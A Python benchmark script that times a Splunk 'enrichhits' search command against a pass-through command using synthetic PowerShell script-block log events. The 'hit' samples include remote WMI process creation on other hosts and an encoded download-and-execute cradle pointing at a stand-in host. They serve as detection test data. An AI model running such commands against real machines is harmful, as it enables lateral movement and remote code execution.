"""enrichhits against a pass-through StreamingCommand: the same events, the same splunklib, the same protocol.

    python benchmarks/enrichhits.py [--events 200000] [--python PATH]

Both commands run as Splunk runs them, a process fed chunks of 50,000 events on standard input. Each mix is measured
alternately, `--rounds` times, and the best round of each counts. Times are the command's processor seconds, start-up
included, which a busy machine disturbs less than the clock. The ratio is enrichhits' throughput over the pass-through's:
the aim is 0.5 on the realistic mix.
"""

from __future__ import annotations

import argparse
import base64
import os
import random
import shutil
import sys
import tempfile
from collections.abc import Callable, Sequence
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from caltrop.render.vendor import sdk_files  # noqa: E402
from tests.app.chunked import Row, conversation, encode_rows, run  # noqa: E402

CHUNK = 50_000
PASS_THROUGH = """
import sys
from pathlib import Path
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "lib"))
from splunklib.searchcommands import Configuration, StreamingCommand, dispatch

@Configuration()
class PassThroughCommand(StreamingCommand):
    def stream(self, records):
        yield from records

dispatch(PassThroughCommand, module_name=__name__)
"""
BENIGN = (
    "Get-ChildItem -Path D:\\drop\\{n} -Recurse | Where-Object {{ $_.Length -gt 1MB }} | Remove-Item -ErrorAction Stop",
    "$svc = Get-Service -Name Spooler\nif ($svc.Status -ne 'Running') {{ Start-Service $svc }}\n# run {n}",
    'function prompt {{ "PS $($executionContext.SessionState.Path.CurrentLocation)> {n} " }}',
    "Import-Module ActiveDirectory; Get-ADUser -Filter * | Select-Object -First {n} Name | Export-Csv users.csv",
)
_PAYLOAD = base64.b64encode("iwr https://cdn.example.test/a | iex".encode("utf-16-le")).decode()
HITS = (
    "Invoke-WmiMethod -CN HOST{n} -Class Win32_Process -Name create -ArgumentList 'cmd.exe /c whoami > C:\\t{n}.txt'",
    "Invoke-WmiMethod -ComputerName HOST{n} -Path Win32_Process -Name create -ArgumentList 'C:\\Tools\\a.exe /q {n}'",
    "$c = Get-Credential; $r = Invoke-WmiMethod -CN H{n},H2 -Class Win32_Process -Name create -Cred $c -Arg 'x.exe {n}'",
    f'iwmi -CN HOST{{n}} Win32_Process create "powershell -enc {_PAYLOAD}"',
)
FORMS = (
    *HITS,
    "icim -ClassName Win32_Process -MethodName Create -Arguments @{{CommandLine='{word}.exe /x'}} -ComputerName srv-{word}.corp",
    '([wmiclass]"\\\\srv-{word}\\root\\cimv2:Win32_Process").Create("cmd.exe /c {word} > C:\\{n}.txt")',
    "$h = 'srv-{word}'\n$cmd = \"cmd.exe /c echo {word}\"\nInvoke-WmiMethod -ComputerName $h -Class Win32_Process -Name create "
    "-ArgumentList $cmd",
    "$p = @{{ ComputerName = '10.1.{n}.7'; Class = 'Win32_Process'; Name = 'create' }}\nInvoke-WmiMethod @p -ArgumentList "
    "'{word}'",
    "foreach ($h in 'a-{word}','b-{word}') {{ Invoke-WmiMethod -CN $h -Class Win32_Process -Name create -Arg \"x {word}\" }}",
    "Invoke-WmiMethod `\n  -ComputerName srv-{word} `\n  -Class Win32_Process -Name create -ArgumentList ('cmd /c ' + '{word}')",
)
# mix -> (share of hits, distinct texts among the hits, what the hits are)
MIXES = {
    "a quarter hits, 5,000 scripts": (0.25, 5_000, HITS),
    "a quarter hits, all different": (0.25, None, HITS),
    "all hits, 5,000 scripts": (1.0, 5_000, HITS),
    "all hits, all different": (1.0, None, HITS),
    "all hits, all different, plain": (1.0, None, HITS[:2]),
    "all hits, all different, many forms": (1.0, None, FORMS),
}


def events(count: int, share: float, distinct: int | None, hits: Sequence[str]) -> list[Row]:
    """Results of a `stats … by EventCode Message ComputerName User`, as the seed detection makes them."""
    draw = random.Random(4104)
    rows: list[Row] = []
    for number in range(count):
        hit = draw.random() < share
        n = draw.randrange(distinct) if hit and distinct else number
        texts = hits if hit else BENIGN
        word = f"{draw.getrandbits(40):010x}"
        script = texts[n % len(texts)].format(n=n, word=word)
        rows.append(
            {
                "EventCode": "4104",
                "Message": f"Creating Scriptblock text (1 of 1):\n{script}\n\n"
                "ScriptBlock ID: bd5b4fe0-879a-486c-8101-2b99875d257a\nPath: ",
                "ComputerName": f"WS-{draw.randrange(997):03}.corp.example.test",
                "User": f"CORP\\user{draw.randrange(97)}",
                "count": "1",
                "firstTime": "2025-03-04T08:12:22",
                "lastTime": "1741075942.000000",
            }
        )
    return rows


def best_of(rounds: int, *measured: Callable[[], object]) -> list[float]:
    """Best processor seconds of the child each starts, run in turn so that a busy machine disturbs them alike."""
    best = [float("inf")] * len(measured)
    for _ in range(rounds):
        for index, call in enumerate(measured):
            start = _children()
            call()
            best[index] = min(best[index], _children() - start)
    return best


def _children() -> float:
    """Processor seconds of all child processes that have ended."""
    times = os.times()
    return times.children_user + times.children_system


def main() -> None:
    parser = argparse.ArgumentParser(description="Throughput of enrichhits over a pass-through StreamingCommand's.")
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--python", default=sys.executable, help="the interpreter that runs both commands")
    parser.add_argument("--mix", default="", help="only the mixes whose name holds this")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="caltrop-bench-") as folder:
        app = Path(folder)
        shutil.copytree(ROOT / "app" / "bin", app / "bin", ignore=shutil.ignore_patterns("__pycache__"))
        (app / "bin" / "passthrough.py").write_text(PASS_THROUGH)
        for name, content in sdk_files(ROOT / ".cache" / "vendor").items():
            (app / name).parent.mkdir(parents=True, exist_ok=True)
            (app / name).write_bytes(content)
        print(f"{options.events:,} events, {options.python}")
        for mix, (share, distinct, hits) in MIXES.items():
            if options.mix not in mix:
                continue
            rows = events(options.events, share, distinct, hits)
            bodies = [encode_rows(rows[start : start + CHUNK]) for start in range(0, len(rows), CHUNK)]
            data = conversation([], bodies)
            scripts = [app / "bin" / name for name in ("passthrough.py", "enrichhits.py")]
            through, enriched = best_of(
                options.rounds,
                *(
                    lambda script=script, data=data: run(options.python, script, data, timeout=900)
                    for script in scripts
                ),
            )
            print(
                f"{mix:<36} pass-through {options.events / through:>9,.0f}/s  enrichhits "
                f"{options.events / enriched:>9,.0f}/s  ratio {through / enriched:.2f}",
                flush=True,
            )


if __name__ == "__main__":
    main()
